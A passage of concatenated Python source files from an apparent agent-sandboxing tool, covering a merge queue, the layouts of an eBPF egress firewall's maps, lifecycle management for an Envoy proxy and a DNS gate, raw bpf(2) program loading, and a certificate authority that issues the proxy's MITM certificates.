        agent already queued replaces the stale entry -- the branch tip
        is what lands, so two entries would merge the same tip twice."""
        not_before = self._clock() + max(0.0, float(delay_s))
        for e in self._entries:
            if e.agent == agent:
                e.branch = branch
                e.not_before = not_before
                return
        self._entries.append(MergeEntry(agent=agent, branch=branch,
                                        not_before=not_before))

    def pending(self) -> list[str]:
        return [e.agent for e in self._entries]

    def drain(self, gm: GitManager, target: str, *,
              retry_delay=None, message_for=None) -> MergeReport:
        """Land every due entry serially; conflicts resubmit with backoff.

        ``retry_delay()`` supplies the conflict backoff (the scheduler
        passes the admission controller's ``retry_after_s`` here);
        falls back to the queue's own ``retry_s``.  Entries still inside
        their backoff window stay queued and are reported ``deferred``
        so the caller knows another pass is needed."""
        report = MergeReport()
        now = self._clock()
        due = [e for e in self._entries if e.not_before <= now]
        for entry in due:
            try:
                outcome = gm.merge_into(
                    target, entry.branch,
                    message=(message_for(entry.agent) if message_for
                             else f"land {entry.branch}"))
            except MergeConflict:
                entry.attempts += 1
                if entry.attempts >= self.max_attempts:
                    self._entries.remove(entry)
                    report.failed.append(entry.agent)
                    continue
                delay = (retry_delay() if retry_delay is not None
                         else self.retry_s)
                entry.not_before = self._clock() + max(0.0, float(delay))
                report.resubmitted.append(entry.agent)
                continue
            self._entries.remove(entry)
            report.landed.append((entry.agent, outcome))
        report.deferred = [e.agent for e in self._entries
                           if e.agent not in report.resubmitted
                           and e.agent not in report.failed]
        return report
