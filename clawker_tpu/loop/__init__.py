"""Autonomous-loop scheduler: ``clawker loop --parallel N``.

Net-new (the reference has no loop verb -- SURVEY.md header note); the
BASELINE.json north-star feature: fan N firewalled autonomous agent
loops across the worker VMs of a TPU pod, restart each agent per
iteration, aggregate status.
"""

from .journal import RunImage, RunJournal, journal_path, replay
from .scheduler import AgentLoop, LaneRegistry, LoopScheduler, LoopSpec
from .warmpool import POOL_TENANT, PoolEntry, WarmPool

__all__ = ["AgentLoop", "LaneRegistry", "LoopScheduler", "LoopSpec",
           "POOL_TENANT", "PoolEntry", "WarmPool",
           "RunImage", "RunJournal", "journal_path", "replay"]
