"""Firewall data model: map records, verdicts, events.

This is the single source of truth for the kernel<->userspace ABI.  The
eBPF programs (native/ebpf/fw.c) define the same structs in C; every
record here documents its wire layout and the two are kept in lock-step
by tests (tests/test_firewall_policy.py struct-size pins).

Parity reference: the reference keeps this ABI in
controlplane/firewall/ebpf/bpf/common.h (container_config, dns_val,
route_key/route_val, pinned map set -- SURVEY.md 2.2).  The layout here is
re-designed: IPv4 addresses and ports are stored in NETWORK byte order
exactly as `bpf_sock_addr` presents them (user_ip4/user_port are __be32/
__be16), so the kernel programs compare and rewrite without byte swaps;
UDP reverse-NAT is keyed by socket cookie instead of a flow tuple.
"""

from __future__ import annotations

import socket
import struct
from dataclasses import dataclass
from enum import IntEnum

# ---------------------------------------------------------------------------
# actions / verdicts (route_val.action and event.verdict share the space)
# ---------------------------------------------------------------------------


class Action(IntEnum):
    ALLOW = 0
    DENY = 1
    REDIRECT = 2        # rewrite dst to redirect_ip:redirect_port (Envoy)
    REDIRECT_DNS = 3    # rewrite dst to the container's DNS gate :53


class Reason(IntEnum):
    """Why a verdict was reached (event enrichment + tests)."""

    UNMANAGED = 0
    BYPASS = 1
    LOOPBACK = 2
    DNS = 3
    ENVOY = 4
    HOSTPROXY = 5
    ROUTE = 6
    NO_ROUTE = 7
    NO_DNS_ENTRY = 8
    RAW_SOCKET = 9
    IPV6 = 10
    MONITOR = 11
    INTRA_NET = 12


# protocol discriminator used in route keys / events
PROTO_TCP = 6
PROTO_UDP = 17

# container policy flags
FLAG_ENFORCE = 1 << 0        # deny on no-route (else monitor-only: allow + event)
FLAG_HOSTPROXY = 1 << 1      # allow hostproxy_ip:hostproxy_port


def ip4_to_be(ip: str) -> int:
    """Dotted quad -> u32 in network byte order (as __be32 in the kernel)."""
    return struct.unpack("<I", socket.inet_aton(ip))[0]


def be_to_ip4(v: int) -> str:
    return socket.inet_ntoa(struct.pack("<I", v))


def port_to_be(port: int) -> int:
    """Host port -> u16 big-endian value (as __be16 in bpf_sock_addr)."""
    return struct.unpack("<H", struct.pack(">H", port))[0]


def be_to_port(v: int) -> int:
    return struct.unpack(">H", struct.pack("<H", v))[0]


# ---------------------------------------------------------------------------
# map records.  Every record packs/unpacks itself; the struct formats are
# the ABI (little-endian field order; ip/port fields pre-swapped to network
# order as documented above).
# ---------------------------------------------------------------------------


@dataclass
class ContainerPolicy:
    """containers map value: per-cgroup enforcement profile.

    C twin: struct fw_container (native/ebpf/fw_maps.h).
    """

    envoy_ip: str = "0.0.0.0"
    dns_ip: str = "0.0.0.0"
    hostproxy_ip: str = "0.0.0.0"
    hostproxy_port: int = 0
    flags: int = FLAG_ENFORCE
    net_ip: str = "0.0.0.0"   # sandbox bridge subnet base
    net_prefix: int = 0       # prefix length; 0 = no intra-net allowance

    # envoy_ip, dns_ip, hostproxy_ip (be32 each), hp_port(be16), pad,
    # flags, net_ip(be32), net_prefix
    FMT = "<IIIHHIII"
    SIZE = struct.calcsize(FMT)  # 28

    def pack(self) -> bytes:
        return struct.pack(
            self.FMT,
            ip4_to_be(self.envoy_ip),
            ip4_to_be(self.dns_ip),
            ip4_to_be(self.hostproxy_ip),
            port_to_be(self.hostproxy_port),
            0,
            self.flags,
            ip4_to_be(self.net_ip),
            self.net_prefix,
        )

    @classmethod
    def unpack(cls, raw: bytes) -> "ContainerPolicy":
        e, d, h, hp, _, flags, n, npfx = struct.unpack(cls.FMT, raw)
        return cls(be_to_ip4(e), be_to_ip4(d), be_to_ip4(h), be_to_port(hp),
                   flags, be_to_ip4(n), npfx)


@dataclass
class DnsEntry:
    """dns_cache map value: what zone produced this resolved IP.

    C twin: struct fw_dns (key = __be32 resolved ip).
    """

    zone_hash: int
    expires_unix: int

    FMT = "<QQ"
    SIZE = struct.calcsize(FMT)  # 16

    def pack(self) -> bytes:
        return struct.pack(self.FMT, self.zone_hash, self.expires_unix)

    @classmethod
    def unpack(cls, raw: bytes) -> "DnsEntry":
        return cls(*struct.unpack(cls.FMT, raw))


@dataclass(frozen=True)
class RouteKey:
    """routes map key: (zone, dst port, proto).  port 0 = any port.

    C twin: struct fw_route_key (packed, 12 bytes).
    """

    zone_hash: int
    port: int   # host order here; packed as __be16
    proto: int  # PROTO_TCP | PROTO_UDP

    FMT = "<QHBx"
    SIZE = struct.calcsize(FMT)  # 12

    def pack(self) -> bytes:
        return struct.pack(self.FMT, self.zone_hash, port_to_be(self.port), self.proto)

    @classmethod
    def unpack(cls, raw: bytes) -> "RouteKey":
        z, p, pr = struct.unpack(cls.FMT, raw)
        return cls(z, be_to_port(p), pr)


@dataclass
class RouteVal:
    """routes map value.  For Action.REDIRECT the kernel rewrites the
    destination to redirect_ip:redirect_port (an Envoy listener).

    C twin: struct fw_route.
    """

    action: Action
    redirect_ip: str = "0.0.0.0"
    redirect_port: int = 0

    FMT = "<BxHI"
    SIZE = struct.calcsize(FMT)  # 8

    def pack(self) -> bytes:
        return struct.pack(
            self.FMT, int(self.action), port_to_be(self.redirect_port),
            ip4_to_be(self.redirect_ip),
        )

    @classmethod
    def unpack(cls, raw: bytes) -> "RouteVal":
        a, p, ip = struct.unpack(cls.FMT, raw)
        return cls(Action(a), be_to_ip4(ip), be_to_port(p))


@dataclass
class UdpFlow:
    """udp_flows map value (key = u64 socket cookie): the destination the
    app originally aimed at, so recvmsg/getpeername can reverse the NAT.

    C twin: struct fw_udp_flow.
    """

    orig_ip: str
    orig_port: int

    FMT = "<IHxx"
    SIZE = struct.calcsize(FMT)  # 8

    def pack(self) -> bytes:
        return struct.pack(self.FMT, ip4_to_be(self.orig_ip), port_to_be(self.orig_port))

    @classmethod
    def unpack(cls, raw: bytes) -> "UdpFlow":
        ip, p = struct.unpack(cls.FMT, raw)
        return cls(be_to_ip4(ip), be_to_port(p))


@dataclass
class EgressEvent:
    """events ringbuf record: one per kernel decision (rate-limited).

    C twin: struct fw_event.
    """

    ts_ns: int
    cgroup_id: int
    dst_ip: str
    dst_port: int
    zone_hash: int
    verdict: Action
    proto: int
    reason: Reason

    FMT = "<QQQIHBBB7x"
    SIZE = struct.calcsize(FMT)  # 40

    def pack(self) -> bytes:
        return struct.pack(
            self.FMT, self.ts_ns, self.cgroup_id, self.zone_hash,
            ip4_to_be(self.dst_ip), port_to_be(self.dst_port),
            int(self.verdict), self.proto, int(self.reason),
        )

    @classmethod
    def unpack(cls, raw: bytes) -> "EgressEvent":
        ts, cg, zone, ip, port, verdict, proto, reason = struct.unpack(cls.FMT, raw)
        return cls(ts, cg, be_to_ip4(ip), be_to_port(port), zone,
                   Action(verdict), proto, Reason(reason))


@dataclass
class Verdict:
    """The outcome of one policy decision (userspace representation)."""

    action: Action
    reason: Reason
    redirect_ip: str = ""
    redirect_port: int = 0
    zone_hash: int = 0

    @property
    def allowed(self) -> bool:
        return self.action is not Action.DENY
