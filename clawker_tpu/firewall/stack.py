"""FirewallStack: lifecycle of the proxy container and the DNS gate.

Two data-plane services back the kernel programs:

- **Envoy** runs as the ``clawker-envoy`` container at the deterministic
  .2 address on clawker-net, config + MITM certs delivered via a
  generated config directory bind.  Config drift is detected by a
  content-sha label; a reload with changed bytes recreates the
  container (deterministic YAML makes the sha meaningful).
- **The DNS gate** runs in-process in the control-plane daemon, bound to
  the clawker-net gateway :53.  The reference ships a custom CoreDNS
  container for this (Stack.ensureCorednsImage stack.go:1039); running
  the gate in the CP process instead removes an image build + container
  per worker and gives it direct pinned-map access on the host where
  the maps live -- the right trade on TPU-VM workers where the CP
  daemon is already privileged.

Parity reference: controlplane/firewall/stack.go (EnsureRunning :156,
Reload :214, WaitForHealthy :261, container specs :657/:723, drift
labels :796).
"""

from __future__ import annotations

import hashlib
from pathlib import Path

from .. import consts, logsetup
from ..config.schema import EgressRule
from ..engine.api import ContainerSpec, Engine
from ..errors import ClawkerError
from .dnsgate import DnsGate, ZonePolicy
from .envoy import EnvoyBundle, generate_envoy_config
from .maps import FirewallMaps
from . import pki

log = logsetup.get("firewall.stack")

ENVOY_IMAGE = "envoyproxy/envoy:v1.30.2"
ENVOY_CONF_MOUNT = "/etc/clawker"


class StackError(ClawkerError):
    pass


class FirewallStack:
    def __init__(
        self,
        engine: Engine,
        maps: FirewallMaps,
        *,
        conf_dir: Path,
        pki_dir: Path,
        dns_host: str = "",
        dns_port: int = consts.DNS_PORT,
        upstreams: tuple[str, ...] = consts.UPSTREAM_DNS,
        gitguard_hosts: tuple[str, ...] = (),
        gitguard_socket: str = "",
    ):
        self.engine = engine
        self.maps = maps
        self.conf_dir = Path(conf_dir)
        self.pki_dir = Path(pki_dir)
        self.dns_host = dns_host
        self.dns_port = dns_port
        self.upstreams = upstreams
        # git hosts whose MITM chain routes through the gitguard proxy
        # socket instead of dynamic-forward-proxy (docs/git-policy.md);
        # only armed when settings name a STABLE socket -- per-run
        # sockets are enforced at the proxy itself
        self.gitguard_hosts = tuple(gitguard_hosts)
        self.gitguard_socket = gitguard_socket
        self.gate: DnsGate | None = None
        self.bundle: EnvoyBundle | None = None

    # ------------------------------------------------------------ network

    def network(self) -> dict:
        return self.engine.ensure_network(consts.NETWORK_NAME)

    def envoy_ip(self) -> str:
        return self.engine.network_static_ip(consts.NETWORK_NAME, consts.ENVOY_HOST_OFFSET)

    def gateway_ip(self) -> str:
        """Gateway = .1: where host daemons (DNS gate, hostproxy) listen."""
        return self.engine.network_static_ip(consts.NETWORK_NAME, 1)

    def network_cidr(self) -> tuple[str, int]:
        """(network_address, prefix_len) of the sandbox bridge -- the
        CIDR the kernel's intra-network bypass admits (sibling services
        on the bridge are reachable without a rule: firewall_test.go:398)."""
        import ipaddress

        subnet = self.network()["IPAM"]["Config"][0]["Subnet"]
        net = ipaddress.ip_network(subnet)
        return str(net.network_address), net.prefixlen

    # ------------------------------------------------------------- render

    def render(self, rules: list[EgressRule]) -> EnvoyBundle:
        """Config + certs on disk; returns the bundle (listener ports).

        The EXACT artifact about to be deployed is validated before the
        write: an invalid bootstrap reaching a real Envoy is a NACK (=
        full egress outage on reload), so the caller's mutation fails
        while the previous config keeps serving (envoy_validate.go)."""
        from .envoy import validate_bundle

        bundle = generate_envoy_config(
            rules, cert_dir=ENVOY_CONF_MOUNT + "/certs",
            gitguard_hosts=self.gitguard_hosts,
            gitguard_socket=self.gitguard_socket)
        errs = validate_bundle(bundle)
        if errs:
            raise ClawkerError(
                "refusing data-plane swap; generated Envoy bootstrap is "
                "invalid: " + "; ".join(errs[:4]))
        self.conf_dir.mkdir(parents=True, exist_ok=True)
        (self.conf_dir / "envoy.yaml").write_text(bundle.config_yaml)
        certs = self.conf_dir / "certs"
        certs.mkdir(exist_ok=True)
        ca = pki.ensure_ca(self.pki_dir)
        for domain in bundle.mitm_domains:
            crt, key = certs / f"{domain}.crt", certs / f"{domain}.key"
            if not (crt.exists() and key.exists()):
                pair = pki.generate_domain_cert(ca, domain)
                crt.write_bytes(pair.cert_pem)
                key.touch(mode=0o600)
                key.write_bytes(pair.key_pem)
        self.bundle = bundle
        return bundle

    def config_sha(self) -> str:
        h = hashlib.sha256()
        for f in sorted(self.conf_dir.rglob("*")):
            if f.is_file():
                h.update(f.name.encode())
                h.update(f.read_bytes())
        # spec-level knobs drift the container too: an already-deployed
        # proxy whose envoy.yaml is unchanged must still recreate when
        # e.g. its resolver pinning changes (upgrade path)
        h.update(repr(self._envoy_dns()).encode())
        return h.hexdigest()[:16]

    def _envoy_dns(self) -> list[str]:
        """Resolver override for the proxy container: pin to the gate
        ONLY when the gate actually serves gateway:53 (production
        placement) -- a loopback/ephemeral gate (monitor fallback, unit
        tests) is unreachable from the container netns, and pinning
        there would black-hole all upstream resolution."""
        if self.dns_port == consts.DNS_PORT and not self.dns_host:
            return [self.gateway_ip()]
        return []

    # ------------------------------------------------------------- envoy

    def ensure_envoy(self) -> str:
        """Idempotent: running container with current config sha, else
        (re)create (drift label: stack.go:796 analogue)."""
        self.network()
        sha = self.config_sha()
        name = consts.ENVOY_CONTAINER
        if self.engine.container_exists(name):
            info = self.engine.inspect_container(name)
            labels = (info.get("Config") or {}).get("Labels") or {}
            running = (info.get("State") or {}).get("Running")
            if labels.get(consts.LABEL_CONTENT_SHA) == sha and running:
                return info["Id"]
            log.info("envoy drift (sha %s -> %s): recreating",
                     labels.get(consts.LABEL_CONTENT_SHA), sha)
            self.engine.remove_container(name, force=True)
        if not self.engine.image_exists(ENVOY_IMAGE):
            for _ in self.engine.pull_image(ENVOY_IMAGE):
                pass
        spec = ContainerSpec(
            image=ENVOY_IMAGE,
            cmd=["-c", f"{ENVOY_CONF_MOUNT}/envoy.yaml", "--base-id", "7"],
            labels={
                consts.LABEL_ROLE: "envoy",
                consts.LABEL_CONTENT_SHA: sha,
            },
            binds=[f"{self.conf_dir}:{ENVOY_CONF_MOUNT}:ro"],
            network=consts.NETWORK_NAME,
            static_ip=self.envoy_ip(),
            restart_policy="on-failure:3",
            # the proxy's OWN upstream resolution (LOGICAL_DNS clusters,
            # dynamic-forward-proxy caches) must go through the gate too:
            # a daemon-default resolver here would let a rebinding answer
            # bypass the gate's guard on the second resolution
            dns=self._envoy_dns(),
        )
        cid = self.engine.create_container(name, spec)
        self.engine.start_container(cid)
        return cid

    # ---------------------------------------------------------- dns gate

    def internal_lookup(self, qname: str) -> str | None:
        """docker.internal resolution from the engine's inventory: the gate
        is host-resident, so Docker's embedded 127.0.0.11 resolver (netns-
        local) is unreachable -- answer ``<name>.docker.internal`` with the
        container's clawker-net address via inspect instead."""
        name = qname.strip(".").lower()
        suffix = "." + consts.INTERNAL_ZONE
        if name.endswith(suffix):
            name = name[: -len(suffix)]
        if not name:
            return None
        try:
            info = self.engine.inspect_container(name)
        except ClawkerError:
            return None
        nets = ((info.get("NetworkSettings") or {}).get("Networks") or {})
        net = nets.get(consts.NETWORK_NAME)
        if net and net.get("IPAddress"):
            return net["IPAddress"]
        ip = (info.get("NetworkSettings") or {}).get("IPAddress")
        return ip or None

    def ensure_gate(self, rules: list[EgressRule]) -> DnsGate:
        policy = ZonePolicy.from_rules(rules)
        if self.gate is None:
            self.gate = DnsGate(
                policy, self.maps,
                upstreams=self.upstreams,
                internal_lookup=self.internal_lookup,
                host=self.dns_host or self.gateway_ip(),
                port=self.dns_port,
            )
            self.gate.start()
        else:
            self.gate.set_policy(policy)
        return self.gate

    # ----------------------------------------------------------- combined

    def ensure_running(self, rules: list[EgressRule]) -> EnvoyBundle:
        bundle = self.render(rules)
        # gate first: the proxy container's only configured resolver may
        # be the gate, so it must be listening before Envoy boots and
        # fires its startup LOGICAL_DNS/DFP resolutions
        self.ensure_gate(rules)
        self.ensure_envoy()
        return bundle

    def reload(self, rules: list[EgressRule]) -> EnvoyBundle:
        """Same as ensure_running: render detects drift, gate hot-swaps."""
        return self.ensure_running(rules)

    def status(self) -> dict:
        envoy_running = False
        try:
            if self.engine.container_exists(consts.ENVOY_CONTAINER):
                info = self.engine.inspect_container(consts.ENVOY_CONTAINER)
                envoy_running = bool((info.get("State") or {}).get("Running"))
        except ClawkerError:
            pass
        return {
            # aggregate verdict, the reference's `"running": true` in
            # `firewall status --json` (firewall_test.go:382)
            "running": envoy_running and bool(self.gate and self.gate.bound_port),
            "envoy_running": envoy_running,
            "dns_gate_up": bool(self.gate and self.gate.bound_port),
            "dns_stats": vars(self.gate.stats) if self.gate else {},
            "config_sha": self.config_sha() if self.conf_dir.exists() else "",
        }

    def stop(self) -> None:
        if self.gate is not None:
            self.gate.stop()
            self.gate = None
        try:
            if self.engine.container_exists(consts.ENVOY_CONTAINER):
                self.engine.remove_container(consts.ENVOY_CONTAINER, force=True)
        except ClawkerError as e:
            log.warning("envoy teardown: %s", e)
