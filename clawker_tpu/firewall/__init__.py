"""Firewall subsystem (reference: controlplane/firewall, SURVEY.md 2.8)."""
