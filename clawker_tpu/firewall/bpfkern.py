"""bpf(2) program/map lifecycle: create, load (verifier), attach, drain.

bpfsys.py covers the *map data plane* against pinned objects (lookup/
update/delete over /sys/fs/bpf) and needs no privileges beyond the pin
directory.  This module is the *control plane*: creating maps, running
assembled programs (bpfasm.py) through the in-kernel verifier, attaching
them to cgroup-v2 directories with BPF_F_ALLOW_MULTI, pinning, and
consuming the events ringbuf via mmap.  Everything is raw syscalls over
ctypes -- no libbpf, no ELF -- because the programs are assembled in
process against live map fds (see fwprogs.py).

Parity reference: the reference does load/attach through cilium/ebpf
(controlplane/firewall/ebpf/manager.go:120 loadPrograms, :246 Attach)
with BPF_F_ALLOW_MULTI on the container cgroup.  The verifier-log
plumbing here replaces bpf2go's compile-time guarantees: every load
returns the kernel's own verification transcript, which scripts/
bpfgate.py commits as the audit artifact.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
from pathlib import Path

# one syscall layer: the wrapper, attach/detach and the pin commands live
# in bpfsys (the data-plane module); this module adds only the
# control-plane commands on top of it
from .bpfsys import (  # noqa: F401  (re-exported for callers)
    BPF_PROG_ATTACH,
    BPF_PROG_DETACH,
    BpfError,
    _bpf,
    prog_detach,
)

# commands (uapi/linux/bpf.h enum bpf_cmd)
BPF_MAP_CREATE = 0
BPF_PROG_LOAD = 5
BPF_OBJ_PIN = 6
BPF_OBJ_GET = 7

# map types
BPF_MAP_TYPE_HASH = 1
BPF_MAP_TYPE_ARRAY = 2
BPF_MAP_TYPE_LRU_HASH = 9
BPF_MAP_TYPE_RINGBUF = 27

# program types
BPF_PROG_TYPE_CGROUP_SOCK = 9
BPF_PROG_TYPE_CGROUP_SOCK_ADDR = 18

# attach types (enum bpf_attach_type)
BPF_CGROUP_INET_SOCK_CREATE = 2
BPF_CGROUP_INET4_CONNECT = 10
BPF_CGROUP_INET6_CONNECT = 11
BPF_CGROUP_UDP4_SENDMSG = 14
BPF_CGROUP_UDP6_SENDMSG = 15
BPF_CGROUP_UDP4_RECVMSG = 19
BPF_CGROUP_UDP6_RECVMSG = 20
BPF_CGROUP_INET4_GETPEERNAME = 29
BPF_CGROUP_INET6_GETPEERNAME = 30

BPF_F_ALLOW_MULTI = 2

_PAGE = mmap.PAGESIZE

# ringbuf record header flags
_RB_BUSY = 1 << 31
_RB_DISCARD = 1 << 30
_RB_HDR_SZ = 8


BpfKernError = BpfError  # historical alias; one error type for bpf(2)


class VerifierError(BpfError):
    """PROG_LOAD rejected: carries the kernel verifier's transcript."""

    def __init__(self, msg: str, log: str):
        super().__init__(f"{msg}\n--- verifier log ---\n{log.strip()}")
        self.log = log


def map_create(map_type: int, key_size: int, value_size: int,
               max_entries: int, name: str = "") -> int:
    nm = name.encode()[:15]
    attr = struct.pack("<IIIIIII16s", map_type, key_size, value_size,
                       max_entries, 0, 0, 0, nm)
    return _bpf(BPF_MAP_CREATE, attr)


def prog_load(prog_type: int, insns: bytes, *, expected_attach_type: int = 0,
              name: str = "", license_: str = "GPL",
              log_level: int = 1, log_size: int = 1 << 20) -> tuple[int, str]:
    """Load a program through the kernel verifier.

    Returns (prog_fd, verifier_log).  Raises VerifierError with the
    transcript on rejection -- the transcript is the evidence artifact,
    so it is always requested (log_level>=1) even on success.
    """
    if len(insns) % 8:
        raise BpfKernError("instruction stream not a multiple of 8 bytes")
    insn_buf = ctypes.create_string_buffer(insns, len(insns))
    lic = license_.encode() + b"\x00"
    lic_buf = ctypes.create_string_buffer(lic, len(lic))
    # log_level 0 must pass a NULL buffer (the kernel rejects buf-without-level)
    log_buf = ctypes.create_string_buffer(log_size if log_level else 1)
    nm = name.encode()[:15]
    attr = struct.pack(
        "<IIQQIIQII16sII",
        prog_type, len(insns) // 8, ctypes.addressof(insn_buf),
        ctypes.addressof(lic_buf), log_level,
        log_size if log_level else 0,
        ctypes.addressof(log_buf) if log_level else 0,
        0, 0, nm, 0, expected_attach_type,
    )
    try:
        # insn_buf/lic_buf/log_buf stay referenced by this frame across
        # the syscall, so their addresses inside attr remain valid
        fd = _bpf(BPF_PROG_LOAD, attr)
    except VerifierError:
        raise
    except BpfError as e:
        raise VerifierError(str(e), log_buf.value.decode(errors="replace")) from e
    return fd, log_buf.value.decode(errors="replace")


def prog_attach(prog_fd: int, cgroup_fd: int, attach_type: int,
                flags: int = BPF_F_ALLOW_MULTI) -> None:
    """Attach with BPF_F_ALLOW_MULTI by default (the reference manager's
    mode, manager.go:246) -- bpfsys.prog_attach is the flags-explicit
    primitive underneath."""
    from .bpfsys import prog_attach as _raw_attach

    _raw_attach(prog_fd, cgroup_fd, attach_type, flags)


def obj_pin(fd: int, path: str | Path) -> None:
    p = str(path).encode() + b"\x00"
    pbuf = ctypes.create_string_buffer(p, len(p))
    attr = struct.pack("<QII", ctypes.addressof(pbuf), fd, 0)
    _bpf(BPF_OBJ_PIN, attr)


# ---------------------------------------------------------------------------
# ringbuf consumer (mmap, matching kernel/bpf/ringbuf.c layout)
# ---------------------------------------------------------------------------


class RingBufReader:
    """Single-consumer reader over a BPF_MAP_TYPE_RINGBUF fd.

    Layout: consumer page (RW mmap at offset 0, consumer_pos at byte 0);
    producer page + double-mapped data (RO mmap at offset PAGE).  Records
    carry an 8-byte header: u32 len (bit31 busy / bit30 discard), u32
    pg_off; lengths are 8-byte aligned for position advance.
    """

    def __init__(self, fd: int, size: int):
        self.size = size
        self._cons = mmap.mmap(fd, _PAGE, prot=mmap.PROT_READ | mmap.PROT_WRITE,
                               flags=mmap.MAP_SHARED, offset=0)
        self._data = mmap.mmap(fd, _PAGE + 2 * size, prot=mmap.PROT_READ,
                               flags=mmap.MAP_SHARED, offset=_PAGE)

    def close(self) -> None:
        self._cons.close()
        self._data.close()

    def _producer_pos(self) -> int:
        return struct.unpack_from("<Q", self._data, 0)[0]

    def _consumer_pos(self) -> int:
        return struct.unpack_from("<Q", self._cons, 0)[0]

    def drain(self, max_records: int = 4096) -> list[bytes]:
        """Consume available records (skipping discarded ones)."""
        out: list[bytes] = []
        cons = self._consumer_pos()
        while len(out) < max_records:
            prod = self._producer_pos()
            if cons >= prod:
                break
            off = _PAGE + (cons & (self.size - 1))
            hdr = struct.unpack_from("<I", self._data, off)[0]
            if hdr & _RB_BUSY:
                break  # producer still writing this record
            ln = hdr & ~(_RB_BUSY | _RB_DISCARD)
            if not hdr & _RB_DISCARD:
                out.append(bytes(self._data[off + _RB_HDR_SZ:
                                            off + _RB_HDR_SZ + ln]))
            cons += (ln + _RB_HDR_SZ + 7) & ~7
            struct.pack_into("<Q", self._cons, 0, cons)
        return out


# ---------------------------------------------------------------------------
# cgroup v2 helpers
# ---------------------------------------------------------------------------


def cgroup2_root() -> Path | None:
    """Find a writable cgroup-v2 mount (unified hierarchy)."""
    try:
        with open("/proc/mounts") as f:
            for line in f:
                parts = line.split()
                if len(parts) >= 3 and parts[2] == "cgroup2":
                    p = Path(parts[1])
                    if os.access(p, os.W_OK):
                        return p
    except OSError:
        return None
    return None


def cgroup_id(path: str | Path) -> int:
    """cgroup id as the kernel reports it to bpf_get_current_cgroup_id:
    the inode number of the cgroup-v2 directory."""
    return os.stat(path).st_ino


def kernel_available() -> bool:
    """Probe: can this process reach the verifier and a cgroup-v2 dir?
    Loads a two-insn program; cheap enough to call from test gates."""
    if cgroup2_root() is None:
        return False
    try:
        from .bpfasm import Asm
        a = Asm("probe")
        a.ret_imm(1)
        fd, _ = prog_load(BPF_PROG_TYPE_CGROUP_SOCK, a.assemble(),
                          expected_attach_type=BPF_CGROUP_INET_SOCK_CREATE,
                          name="probe", log_level=0)
        os.close(fd)
        return True
    except (BpfKernError, OSError):
        return False
