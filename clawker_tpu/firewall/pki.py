"""PKI: ECDSA P-256 CA, per-domain MITM leaf certs, per-agent client certs.

Parity reference: controlplane/firewall/certs.go (EnsureCA,
GenerateDomainCert, CA rotation) and the per-agent mTLS leaf minting in
internal/cmd/container/shared/agent_bootstrap.go:153.  One CA signs both
the MITM server certs Envoy presents and the client/server certs the
control-plane <-> agentd mTLS mesh uses; rotation rewrites the CA and
invalidates every leaf (callers rebuild images / re-enroll).
"""

from __future__ import annotations

import datetime
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

CA_CERT = "ca.crt"
CA_KEY = "ca.key"
CA_DAYS = 3650
LEAF_DAYS = 825


@dataclass
class CertPair:
    cert_pem: bytes
    key_pem: bytes


@dataclass
class CA:
    cert_pem: bytes
    key_pem: bytes

    # parsed forms are cached per CA object: the identity mint path
    # touches .key/.cert on every agent create, and PEM parsing was a
    # measurable share of cold-start (bench stage: bootstrap)
    @cached_property
    def cert(self) -> x509.Certificate:
        return x509.load_pem_x509_certificate(self.cert_pem)

    @cached_property
    def key(self) -> ec.EllipticCurvePrivateKey:
        k = serialization.load_pem_private_key(self.key_pem, password=None)
        assert isinstance(k, ec.EllipticCurvePrivateKey)
        return k


def _key_pem(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )


def _now() -> datetime.datetime:
    return datetime.datetime.now(datetime.timezone.utc)


def generate_ca(common_name: str = "clawker-tpu firewall CA") -> CA:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(_now() - datetime.timedelta(minutes=5))
        .not_valid_after(_now() + datetime.timedelta(days=CA_DAYS))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .add_extension(
            x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False
        )
        .add_extension(
            x509.KeyUsage(
                digital_signature=True,
                key_cert_sign=True,
                crl_sign=True,
                content_commitment=False,
                key_encipherment=False,
                data_encipherment=False,
                key_agreement=False,
                encipher_only=False,
                decipher_only=False,
            ),
            critical=True,
        )
        .sign(key, hashes.SHA256())
    )
    return CA(cert_pem=cert.public_bytes(serialization.Encoding.PEM), key_pem=_key_pem(key))


_CA_CACHE: dict[tuple, CA] = {}


def ensure_ca(pki_dir: Path) -> CA:
    """Load the CA from ``pki_dir``, generating it on first use.

    Process-cached by (path, mtimes): repeated creates in one process
    (loop fan-out, bench) reuse the same CA object -- and its parsed
    key/cert -- while rotate_ca's unlink+rewrite changes the mtime
    signature and naturally invalidates."""
    cert_p, key_p = pki_dir / CA_CERT, pki_dir / CA_KEY
    try:
        sig = (str(pki_dir), cert_p.stat().st_mtime_ns, key_p.stat().st_mtime_ns)
    except OSError:
        sig = None
    if sig is not None:
        hit = _CA_CACHE.get(sig)
        if hit is not None:
            return hit
    if cert_p.is_file() and key_p.is_file():
        ca = CA(cert_pem=cert_p.read_bytes(), key_pem=key_p.read_bytes())
    else:
        pki_dir.mkdir(parents=True, exist_ok=True)
        ca = generate_ca()
        cert_p.write_bytes(ca.cert_pem)
        key_p.write_bytes(ca.key_pem)
        key_p.chmod(0o600)
        sig = (str(pki_dir), cert_p.stat().st_mtime_ns, key_p.stat().st_mtime_ns)
    if sig is not None:
        if len(_CA_CACHE) > 64:
            _CA_CACHE.clear()
        _CA_CACHE[sig] = ca
    return ca


def rotate_ca(pki_dir: Path) -> CA:
    """Replace the CA (reference: Handler.RotateCA firewall/handler.go:981)."""
    for f in (pki_dir / CA_CERT, pki_dir / CA_KEY):
        if f.exists():
            f.unlink()
    # never trust mtime granularity across a rotation: a same-tick
    # rewrite must not let ensure_ca return the retired root
    _CA_CACHE.clear()
    return ensure_ca(pki_dir)


def _issue(
    ca: CA,
    common_name: str,
    *,
    dns_names: list[str] | None = None,
